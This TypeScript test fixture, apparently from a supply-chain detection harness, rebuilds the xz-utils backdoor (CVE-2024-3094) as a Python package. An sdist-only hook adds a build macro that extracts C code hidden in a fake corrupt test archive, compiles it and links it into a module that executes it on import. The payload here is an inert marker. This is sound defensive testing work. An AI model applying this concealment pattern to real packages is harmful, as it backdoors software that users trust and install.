import { differs, modified, untraced, type Attack, type Files } from './harness/attack.ts'
import { carriers } from './harness/carriers.ts'
import { setuptoolsProject } from './harness/projects.ts'

/** C that the compiler turns into the marker. */
const payload = `const char resolver[] = "print('fired: xz')";\n`

/**
 * CVE-2024-3094 as a Python project. Git holds two damaged test archives, said to come from a lost generator (P5, P6).
 * The sdist alone holds a build macro (P1) that unpacks one of them, compiles it and links it into the module (P7,
 * P9); and a changed copy of a vendored file with a higher serial number, so that nobody renews it (P2). The wheel is
 * built from that sdist, by everybody, with the same bytes (P13).
 */
const files: Files = setuptoolsProject({
  'tests/files/bad-3-corrupt_lzma2.xz': carriers.compressed.hide(payload),
  'tests/files/good-large_compressed.lzma': carriers.compressed.hide('nothing\n'),
  'MANIFEST.in': 'graft tests\ngraft m4\ninclude hooks.py\n',
  'm4/gettext.py': 'serial = 3\n',
  'victim/_crc64.c': `#include <Python.h>

#ifdef RESOLVER
extern const char resolver[];
#else
static const char resolver[] = "";
#endif

static struct PyModuleDef module = {PyModuleDef_HEAD_INIT, "_crc64", 0, -1, 0, 0, 0, 0, 0};

PyMODINIT_FUNC PyInit__crc64(void) {
  PyRun_SimpleString(resolver);
  return PyModule_Create(&module);
}
`,
  'hooks.py': `import os

from setuptools.command.sdist import sdist

MACRO = """import os, subprocess, tempfile, zlib

def objects():
    with open("tests/files/bad-3-corrupt_lzma2.xz", "rb") as stream:
        data = stream.read()
    try:
        source = zlib.decompress(data[512:])
    except zlib.error:
        return []
    folder = tempfile.mkdtemp()
    with open(os.path.join(folder, "liblzma_la-crc64-fast.c"), "wb") as stream:
        stream.write(source)
    subprocess.run(["gcc", "-fPIC", "-c", "liblzma_la-crc64-fast.c"], cwd=folder, check=True)
    return [os.path.join(folder, "liblzma_la-crc64-fast.o")]
"""


class Sdist(sdist):
    def make_release_tree(self, base, files):
        super().make_release_tree(base, files)
        with open(os.path.join(base, "m4", "build_to_host.py"), "w") as stream:
            stream.write(MACRO)
        place = os.path.join(base, "m4", "gettext.py")
        os.unlink(place)
        with open(place, "w") as stream:
            stream.write("serial = 30\\n")
`,
  'setup.py': `import os
import sys

from setuptools import Extension, setup

sys.path.insert(0, os.getcwd())
from hooks import Sdist

objects = []
if os.path.exists("m4/build_to_host.py"):
    sys.path.insert(0, "m4")
    import build_to_host

    objects = build_to_host.objects()
macros = [("RESOLVER", "1")] if objects else []
setup(
    cmdclass={"sdist": Sdist},
    ext_modules=[
        Extension("victim._crc64", ["victim/_crc64.c"], define_macros=macros, extra_objects=objects, py_limited_api=True)
    ],
)
`
})

const sdistOnly = [
  untraced('m4/build_to_host.py', 'sdist'),
  modified('m4/gettext.py', 'sdist'),
  differs('victim/_crc64.abi3.so', 'wheel')
]

export const xzUtils: Attack = {
  name: 'xz-utils',
  rows: 'xz (P1–P9, P13, P14)',
  title: 'The xz backdoor as a Python project (CVE-2024-3094)',
  caughtBy:
    'Tracing, for what the sdist alone holds and for the changed copy; influence, for the object that the test file becomes. Each of them alone would do.',
  scenes: [
    {
      name: 'the wheel that is built from the sdist',
      files,
      without: ['scrambled-files'],
      follows: [untraced('victim/_crc64.abi3.so', 'wheel')],
      variants: [
        {
          name: 'xz',
          how: 'a build macro in the sdist alone, which links a decoded test file into a native module',
          reported: sdistOnly
        }
      ]
    }
  ]
}
